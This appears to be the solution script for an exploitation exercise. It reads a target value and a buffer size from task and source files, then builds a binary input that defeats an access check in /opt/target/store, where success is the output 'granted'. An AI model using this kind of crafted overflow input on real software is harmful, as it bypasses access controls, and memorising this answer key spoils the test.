wanted=$(grep -o '[0-9]*' TASK.txt)
pad=$(grep -o 'reserved\[[0-9]*' /opt/target/store.c | grep -o '[0-9]*$')
python3 -c "
import sys
wanted, pad = int(sys.argv[1]), int(sys.argv[2])
open('input.bin', 'wb').write(bytes([256 - pad - 1]) + wanted.to_bytes(4, 'little'))
" "$wanted" "$pad"
/opt/target/store input.bin | grep -q granted && echo done
